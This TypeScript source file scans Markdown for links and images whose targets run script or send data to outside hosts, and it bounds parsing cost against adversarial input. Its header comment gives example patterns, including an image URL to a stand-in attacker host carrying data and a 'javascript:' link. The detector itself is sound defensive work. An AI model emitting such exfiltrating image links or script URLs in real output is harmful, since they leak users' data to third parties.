/**
 * Markdown images and links whose target runs script or sends data to an outside host:
 * `![x](https://attacker.example/p?d=…)`, `[click](javascript:…)`, and reference definitions
 * (`[1]: https://…`) that images or links point at.
 *
 * One forward pass with a small stack of open brackets, so `![a [b]](url)` pairs correctly; after a
 * link destination the scan resumes past it, so a 100 KB run of `](` stays linear.
 */
import type { Finding } from './html.js';
import { isScriptUrl, isSpace } from './scan.js';
import { exfiltrates, type HostAllowList, hostOf, isAllowedHost } from './urls.js';

const MAX_DEPTH = 16;
const MAX_DESTINATION = 16_384;
const REFERENCE = /^ {0,3}\[[^\]\n]{1,200}\]:[ \t]*<?([^\s>]{1,16384})/gm;

export function scanMarkdown(text: string, allowed: HostAllowList, out: Finding[]): void {
  if (!text.includes('](') && !text.includes(']:')) return;
  const stack: number[] = [];
  const n = text.length;
  // Destinations that turn out not to be links are read again from the next `](`; past this much
  // reading the answer is built to be slow to parse, and the rest of it counts as a link.
  const budget = { left: 4 * n + 65_536 };
  for (let i = 0; i < n; i++) {
    if (budget.left < 0) {
      out.push({ start: i, end: n, kind: 'markdown_link' });
      break;
    }
    const c = text.charCodeAt(i);
    if (c === 91) {
      if (stack.length === MAX_DEPTH) stack.shift();
      stack.push(i);
      continue;
    }
    if (c !== 93) continue;
    const open = stack.pop();
    if (text.charCodeAt(i + 1) !== 40 || open === undefined) continue;
    const image = open > 0 && text.charCodeAt(open - 1) === 33;
    const start = image ? open - 1 : open;
    const dest = destination(text, i + 2, budget);
    if (!dest) continue;
    check(dest.url, image, allowed, start, dest.end, dest.complete, out);
    i = Math.max(i, dest.end - 1);
  }
  if (text.includes(']:')) {
    const load = text.includes('![');
    REFERENCE.lastIndex = 0;
    for (let m = REFERENCE.exec(text); m; m = REFERENCE.exec(text))
      check(m[1] ?? '', load, allowed, m.index, m.index + m[0].length, true, out);
  }
}

function check(
  url: string,
  image: boolean,
  allowed: HostAllowList,
  start: number,
  end: number,
  complete: boolean,
  out: Finding[],
): void {
  const kind = image ? 'markdown_image' : 'markdown_link';
  if (isScriptUrl(url)) out.push({ start, end, kind: 'script_url' });
  else if (exfiltrates(url, image ? 'load' : 'follow', allowed)) out.push({ start, end, kind });
  else if (!complete) {
    // Still arriving (a stream, or a cut answer): an outside target is held until it is complete.
    const host = hostOf(url);
    if (host !== null && !isAllowedHost(host, allowed)) out.push({ start, end, kind });
  }
}

/** The link destination starting at `from` (just after `(`), CommonMark-style, and where the link ends. */
function destination(
  text: string,
  from: number,
  budget: { left: number },
): { url: string; end: number; complete: boolean } | null {
  const n = Math.min(text.length, from + MAX_DESTINATION);
  let i = from;
  while (i < n && isSpace(text.charCodeAt(i))) i++;
  let url: string;
  if (text[i] === '<') {
    let stop = i + 1;
    while (stop < n && text.charCodeAt(stop) !== 62 && text.charCodeAt(stop) !== 10) stop++;
    url = text.slice(i + 1, stop);
    i = stop + 1;
  } else {
    const s = i;
    let depth = 0;
    for (; i < n; i++) {
      const c = text.charCodeAt(i);
      if (c <= 32) break;
      if (c === 40) depth++;
      else if (c === 41) {
        if (depth === 0) break;
        depth--;
      }
    }
    url = text.slice(s, i);
  }
  budget.left -= i - from;
  // Optional title in quotes or parentheses, then `)`; anything else means it is not a link.
  while (i < n && isSpace(text.charCodeAt(i))) i++;
  const q = text[i];
  if (q === '"' || q === "'" || q === '(') {
    const closer = q === '(' ? 41 : q.charCodeAt(0);
    let close = i + 1;
    while (close < n && text.charCodeAt(close) !== closer) close++;
    budget.left -= close - i;
    if (close >= n || text.slice(i, close).includes('\n\n'))
      return close >= text.length ? incomplete(url, text.length) : null;
    i = close + 1;
    while (i < n && isSpace(text.charCodeAt(i))) i++;
  }
  if (text.charCodeAt(i) === 41) return { url, end: i + 1, complete: true };
  return i >= text.length ? incomplete(url, text.length) : null;
}

function incomplete(url: string, end: number): { url: string; end: number; complete: boolean } {
  return { url, end, complete: false };
}
